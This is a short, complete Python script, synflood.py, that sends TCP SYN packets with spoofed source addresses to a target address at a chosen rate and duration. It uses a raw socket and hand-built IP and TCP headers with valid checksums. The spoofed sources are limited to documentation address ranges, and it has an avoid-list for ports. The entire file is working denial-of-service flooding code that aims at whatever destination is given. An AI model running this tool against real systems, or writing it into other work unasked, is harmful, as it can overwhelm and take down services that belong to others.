#!/usr/bin/env python3
"""synflood.py - TCP SYNs from random spoofed IPv4 sources (documentation
ranges only: 192.0.2.0/24 and 203.0.113.0/24), random source and
destination ports, to DST, at RATE packets a second for SECONDS, through a
raw socket (IP_HDRINCL). Never sends to a port in --avoid. Prints the
number of packets sent.

    synflood.py DST RATE SECONDS [--avoid PORT,...] [--seed N]
"""
import argparse
import random
import socket
import struct
import sys
import time

NETS = (bytes((192, 0, 2)), bytes((203, 0, 113)))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    # 20-byte TCP header, SYN, window 1024, no options
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 1024, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("rate", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--avoid", default="")
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    avoid = {int(p) for p in a.avoid.split(",") if p}
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sent = 0
    start = time.monotonic()
    end = start + a.seconds
    batch = max(1, a.rate // 200)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * a.rate)
        if sent >= due:
            time.sleep(min(batch / a.rate, end - now))
            continue
        for _ in range(min(batch, due - sent)):
            src = rnd.choice(NETS) + bytes((rnd.randrange(1, 255),))
            dport = rnd.randrange(1, 65536)
            while dport in avoid:
                dport = rnd.randrange(1, 65536)
            pkt = syn(src, dst, rnd.randrange(1024, 65536), dport, rnd.getrandbits(32))
            try:
                s.sendto(pkt, (a.dst, 0))
                sent += 1
            except OSError:  # ENOBUFS: a full device queue; the packet is not counted
                time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    sys.exit(main())
